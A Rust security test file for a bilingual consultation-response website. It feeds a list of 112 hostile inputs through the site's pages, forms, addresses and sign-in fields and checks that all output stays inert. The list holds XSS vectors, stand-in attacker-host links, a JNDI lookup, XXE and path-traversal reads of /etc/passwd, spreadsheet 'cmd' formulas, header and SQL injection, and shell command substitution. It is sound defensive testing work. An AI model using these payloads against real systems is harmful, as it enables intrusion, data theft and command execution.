//! What respondents, senders of files and makers of addresses write is shown and never obeyed.

use std::fs;

use scraper::{Html, node::Node};

use ymateb_model::account::Role;
use ymateb_pipeline::access::accounts::{self, By};

use crate::{project::Folder, site::Site};

/// What somebody may write to make a page, a header, a spreadsheet, a shell, a database or a template do what they want.
/// Words too long for a page, and bytes that are no text, are added where they are sent.
const PAYLOADS: [&str; 112] = [
    // Markup and scripts.
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
    "</p></main></body><h1>Owned</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</bdi></a></dd></dl><h1>Owned</h1>",
    "</option></select><input name=token value=mine>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><html onload=alert(1)>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=//attacker.example/x.swf>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=//attacker.example>Sign in</button>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=# target=_blank ping=//attacker.example>click</a>",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//attacker.example/",
    "https://attacker.example/#\"><img src=x>",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">",
    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>*{display:none}</style>",
    "<style>@import url(//attacker.example/x.css)</style>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<link rel=prefetch href=//attacker.example/seen>",
    "<form action=//attacker.example><input name=token>",
    "<form id=site><input form=site name=token></form>",
    "<img name=getElementById><a id=document name=cookie>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)",
    "x\" style=\"position:fixed;inset:0",
    "x\" lang=\"en\" dir=\"rtl",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt\u{b}>alert(1)</sCrIpT\u{c}>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}alert(1)\u{2039}/script\u{203a}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;script&#x3e;alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    // Templates and Fluent.
    "{{ frame.title }} {% include \"layout.html\" %}",
    "{% raw %}{{ 7*7 }}{% endraw %}{# hidden #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://attacker.example/x}",
    "{ $n } { -brand } { NUMBER(1) } { \"quoted\" }",
    "a = { $n ->\n    [one] one\n   *[other] other\n}",
    "{\"__proto__\":{\"admin\":true}}",
    // Direction, and letters that are not seen.
    "\u{202e}gnp.exe\u{202c} right to left",
    "\u{202d}forced left to right\u{202b} and embedded",
    "\u{2067}isolated\u{2069}\u{2066} and not closed",
    "\u{2068}first strong\u{200f}\u{200e}\u{61c} marks",
    "zero\u{200b}width\u{200d}joined\u{feff}and\u{ad}soft",
    "Z\u{334}\u{335}\u{336}\u{337}\u{338}\u{30d}\u{30e}a\u{334}\u{335}\u{336}\u{337}l\u{30d}\u{30e}go",
    "\u{e0001}\u{e0074}\u{e0061}\u{e0067} tags",
    "noncharacters \u{fffe} \u{ffff} \u{1fffe} and private \u{e000}",
    "\u{2028}line\u{2029}paragraph\u{85}next",
    // Control characters and lone surrogates, as escapes.
    "null\u{0}byte and \u{7}bell and \u{1b}[31mred\u{1b}[0m",
    "\u{1b}]8;;https://attacker.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{9b}2J\u{90}1;1|\u{9c}",
    "\\ud800 lone \\udfff surrogates \\u0000",
    "%ed%a0%80 %c0%ae%c0%ae/ %ff%fe",
    // Paths.
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "....//....//etc/passwd",
    "/etc/passwd",
    "C:\\boot.ini:$DATA",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.html",
    "CON.txt",
    // Formulas.
    "=HYPERLINK(\"http://attacker.example\",\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    // Headers, databases and shells.
    "x\r\nSet-Cookie: ymateb-session=mine\r\n\r\n<h1>Owned</h1>",
    "%0d%0aSet-Cookie:%20ymateb-session=mine",
    "'; DROP TABLE submission; --",
    "\" OR \"\"=\"' UNION SELECT password FROM account --",
    "$(touch /tmp/owned) `id` ; id | id && id",
];

/// A project in which names, answers, options, ids of sessions, file names, letters and the names of codes are hostile.
fn project() -> Folder {
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let mut forms = "ID,Name,Sent,Free?,Why\n".to_owned();
    let huge = "ŵ".repeat(20_000);
    for (number, payload) in PAYLOADS.into_iter().chain([huge.as_str()]).enumerate() {
        let cells = [
            format!("{number}{payload}"),
            payload.to_owned(),
            "05/01/2026 10:00".to_owned(),
            if number % 2 == 0 { "Yes".to_owned() } else { payload.to_owned() },
            format!("{payload} The roof of the hall is leaking and it should be mended before winter comes."),
        ];
        forms.push_str(&cells.map(|cell| quoted(&cell)).join(","));
        forms.push('\n');
    }
    // No file can be called that.
    let named = |payload: &str| payload.replace(['/', '\0'], "_");
    let letters: Vec<(String, String)> = PAYLOADS
        .into_iter()
        .map(|payload| {
            (
                format!("inbox/letters/{}.txt", named(payload)),
                format!("{payload}\n\nWe ask that halls be free. {payload}"),
            )
        })
        .collect();
    let mut files: Vec<(&str, &str)> = letters.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    files.push(("inbox/forms/export.csv", &forms));
    let folder = Folder::unrun(&files);
    // Bytes that are no text: a lone surrogate and an overlong slash as UTF-8 would have them, and half a letter at the end.
    let no_text = b"We ask \xed\xa0\x80 that halls \xc0\xaf be free <b>\xff</b> for all of us.\xc5";
    fs::write(folder.root.join("inbox/letters/bytes.txt"), no_text).expect("a file");
    let framework = folder.root.join("framework.toml");
    let settings = fs::read_to_string(&framework).expect("a framework");
    let hostile = settings.replace("\"Roofs\"", "\"Roofs <img src=x onerror=alert(1)>\"");
    fs::write(framework, hostile.replace("\"Toeau\"", "\"Toeau </li><script>alert(1)</script>\"")).expect("a file");
    folder.run();
    folder
}

/// Insists that nothing on a page comes from anybody but us: no element, attribute or address that we do not write.
#[track_caller]
fn is_inert(html: &str, address: &str) {
    const OURS: [&str; 60] = [
        "a", "article", "bdi", "body", "button", "caption", "code", "dd", "details", "div", "dl", "dt", "footer",
        "form", "h1", "h2", "h3", "head", "header", "html", "input", "label", "legend", "fieldset", "li", "link",
        "main", "mark", "meta", "nav", "ol", "option", "p", "path", "q", "rect", "section", "select", "span", "strong",
        "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead", "title", "tr", "ul", "br", "h4", "tfoot",
        "abbr", "time", "em", "small", "kbd", "script",
    ];
    for node in Html::parse_document(html).tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                let name = element.name();
                assert!(OURS.contains(&name), "{address}: <{name}>");
                if name == "script" {
                    assert!(element.attr("src").is_some() && !node.has_children(), "{address}: a script of another's");
                }
                for (attribute, value) in element.attrs() {
                    assert!(!attribute.starts_with("on") && attribute != "style", "{address}: <{name} {attribute}>");
                    assert_ne!(attribute, "http-equiv", "{address}");
                    if ["href", "src", "action", "formaction", "xlink:href"].contains(&attribute) {
                        let ours = ["/cy/", "/en/", "/assets/", "#"].iter().any(|start| value.starts_with(start));
                        assert!(ours && !value.starts_with("//"), "{address}: {attribute}={value}");
                    }
                    assert!(!value.contains('\0'), "{address}: {attribute}");
                }
            }
            Node::Text(text) => {
                let controls = |letter: char| letter.is_control() && !matches!(letter, '\n' | '\t' | '\r');
                assert!(!text.contains(controls), "{address}: {text:?}");
                let steers = |letter: char| matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
                if text.contains(steers) {
                    let apart = node.ancestors().any(|above| {
                        // A field is a box of its own.
                        let apart = |e: &scraper::node::Element| {
                            ["bdi", "textarea"].contains(&e.name()) || e.attr("dir").is_some()
                        };
                        above.value().as_element().is_some_and(apart)
                    });
                    assert!(apart, "{address}: a change of direction reaches beyond its text: {text:?}");
                }
            }
            Node::Comment(_) => panic!("{address}: a comment"),
            _ => {}
        }
    }
    assert_eq!(html.matches("<h1").count(), 1, "{address}");
    assert_eq!(html.matches("</html>").count(), 1, "{address}");
}

#[test]
fn what_is_hostile_in_the_record_is_inert_on_every_page() {
    let folder = project();
    let site = Site::of(&folder);
    let mut asked = 0;
    let mut check = |address: &str| {
        let answer = site.get(address);
        assert!(answer.status.is_success(), "{address}: {}", answer.status);
        is_inert(&answer.text(), address);
        asked += 1;
        answer.page()
    };
    for language in ["cy", "en"] {
        let mut address = format!("/{language}/register");
        loop {
            let page = check(&address);
            for submission in page.attributes("#list ~ .site-wide tbody th a", "href") {
                check(&submission);
            }
            match page.attributes(".govuk-pagination__next a", "href").pop() {
                Some(next) => address = next.trim_end_matches("#list").to_owned(),
                None => break,
            }
        }
        let mut address = format!("/{language}/search?everything=1");
        while let Some(next) = check(&address).attributes(".govuk-pagination__next a", "href").pop() {
            address = next;
        }
        for page in
            ["", "attention", "campaigns", "quarantine", "dashboard", "dashboard/themes", "run", "run/check", "run/1"]
        {
            for campaign in check(&format!("/{language}/{page}")).attributes("a[href*='/campaigns/']", "href") {
                check(&campaign);
            }
        }
    }
    assert!(asked > 2 * PAYLOADS.len(), "{asked} pages were looked at");
}

#[test]
fn what_a_coder_writes_is_inert_on_the_coding_pages() {
    let folder = project();
    for (payload, language) in PAYLOADS.into_iter().zip(["cy", "en"].into_iter().cycle()) {
        let site = Site::of(&folder).by(payload);
        let first = site.get(&format!("/{language}/code"));
        is_inert(&first.text(), payload);
        let page = first.page();
        if page.all(".site-coded").is_empty() {
            // The browser keeps no such name, and is asked for another.
            assert!(payload.contains(char::is_control), "{payload:?}");
            let refused = site.submit(&page, "main form", &[("name", payload), ("next", payload)]).is(400);
            is_inert(&refused.text(), payload);
            continue;
        }
        let here = page.attributes(".site-add", "action").remove(0);
        for (form, fields) in [
            (".site-add", &[("new-code", "T1"), ("memo", payload)][..]),
            ("#remarks ~ form", &[("note", payload)]),
            (".site-add", &[("new-code", payload), ("stance", payload), ("instead-of", payload), ("words", payload)]),
            ("#remarks ~ form", &[("verb", "flag"), ("flag", payload)]),
            (".site-add", &[("verb", payload), ("new-code", payload)]),
            (".site-add", &[("new-code", "H1"), ("seen", payload), ("memo", payload)]),
        ] {
            let answer = site.submit(&site.get(&here).page(), form, fields);
            assert!([303, 400, 409].contains(&answer.status.as_u16()), "{payload:?}: {}", answer.status);
            if answer.status != 303 {
                is_inert(&answer.text(), payload);
            }
        }
        let shown = site.get(&here).is(200);
        is_inert(&shown.text(), payload);
        assert!(shown.page().all(".site-memo").len() >= 2, "{payload:?} is shown as it was written");
        let escaped: String = form_urlencoded::byte_serialize(payload.as_bytes()).collect();
        for address in [
            format!("{here}?did={escaped}&on={escaped}"),
            format!("/{language}/code?did=review.1&on={escaped}&skip={escaped}"),
            format!("/{language}/code?language={escaped}"),
            format!("/{language}/code?blind=1&code={escaped}&sample={escaped}"),
            format!("/{language}/code/name?next={escaped}"),
            format!("/{language}/codes"),
            format!("/{language}/codes/T1?state={escaped}&page={escaped}"),
            format!("/{language}/codes/{escaped}"),
        ] {
            let answer = site.get(&address);
            assert!([200, 400, 404].contains(&answer.status.as_u16()), "{address}: {}", answer.status);
            is_inert(&answer.text(), &address);
        }
    }
}

#[test]
fn what_is_hostile_in_an_address_is_inert_too() {
    let site = Site::demonstration();
    let escaped = |payload: &str| form_urlencoded::byte_serialize(payload.as_bytes()).collect::<String>();
    for payload in PAYLOADS {
        let escaped = escaped(payload);
        for field in ["q", "language", "question", "kind", "source", "status", "code", "since", "until", "sort", "page"]
        {
            let address = format!("/cy/search?{field}={escaped}");
            let answer = site.get(&address);
            assert!([200, 400].contains(&answer.status.as_u16()), "{address}: {}", answer.status);
            is_inert(&answer.text(), &address);
        }
        for path in ["submissions", "passages", "campaigns", "register", "nowhere"] {
            let address = format!("/en/{path}/{escaped}");
            let answer = site.get(&address).is(404);
            is_inert(&answer.text(), &address);
        }
        for field in ["status", "source", "written", "form", "page"] {
            let address = format!("/en/register?{field}={escaped}");
            is_inert(&site.get(&address).text(), &address);
        }
        let address = format!("/en/submissions/x?done={escaped}");
        is_inert(&site.get(&address).text(), &address);
    }
}

#[test]
fn what_is_hostile_in_fields_of_signing_in_and_accounts_is_inert_too() {
    let folder = Folder::small(&[("inbox/letters/to.txt", "We ask that halls be free for all of us.")]);
    let project = ymateb_pipeline::Project::open(&folder.root).expect("a project");
    let (password, by) = ("tŷ bach coch ar y bryn", By { name: "<b>\u{202e}=1+1", address: "" });
    accounts::add(&project, "Mair", Role::Administrator, password, by).expect("made");
    let huge = "ŵ".repeat(2_000);
    let mair = Site::of(&folder).signed_in("Mair", password);
    for (number, payload) in PAYLOADS.into_iter().chain([huge.as_str()]).enumerate() {
        let language = ["cy", "en"][number % 2];
        // Started again each time, or signing in and asking would soon have to wait.
        let (site, mair) = (Site::of(&folder), mair.started_again(&folder));
        let form = site.get(&format!("/{language}/sign-in")).page();
        let fields = [("name", payload), ("password", payload), ("next", payload)];
        let answer = site.submit(&form, "main form", &fields).is(401);
        is_inert(&answer.text(), payload);
        assert!(answer.headers.get("set-cookie").is_none(), "{payload:?}");
        let right = [("name", "Mair"), ("password", password), ("next", payload)];
        if number % 8 == 0 {
            let location = site.submit(&form, "main form", &right).is(303);
            let location = location.header("location");
            assert!(location.starts_with(&format!("/{language}/")) && !location.contains(['\r', '\n']), "{location}");
        }
        let page = mair.get(&format!("/{language}/accounts")).is(200).page();
        let made = mair.submit(&page, "main form", &[("name", payload), ("role", payload), ("password", payload)]);
        is_inert(&made.is(400).text(), payload);
        let made = mair.submit(&page, "main form", &[("name", payload), ("role", "reader"), ("password", "x")]);
        is_inert(&made.is(400).text(), payload);
        let escaped: String =
            form_urlencoded::byte_serialize(payload.chars().take(500).collect::<String>().as_bytes()).collect();
        for address in [
            format!("/{language}/audit?who={escaped}&did={escaped}&since={escaped}&before={escaped}"),
            format!("/{language}/audit.csv?who={escaped}"),
            format!("/{language}/accounts/{escaped}"),
            format!("/{language}/search?q={escaped}"),
            format!("/{language}/sign-in?next={escaped}&done={escaped}&name={escaped}"),
        ] {
            let answer = mair.get(&address);
            assert!([200, 303, 400, 404].contains(&answer.status.as_u16()), "{address}: {}", answer.status);
            if answer.header("content-type").starts_with("text/html") {
                is_inert(&answer.text(), &address);
            }
        }
    }
    let audit = mair.get("/cy/audit").is(200);
    is_inert(&audit.text(), "/cy/audit");
    let table = mair.get("/en/audit.csv").is(200).bytes;
    let mut rows = csv::Reader::from_reader(&*table);
    for row in rows.records() {
        for cell in &row.expect("a row") {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
        }
    }
}
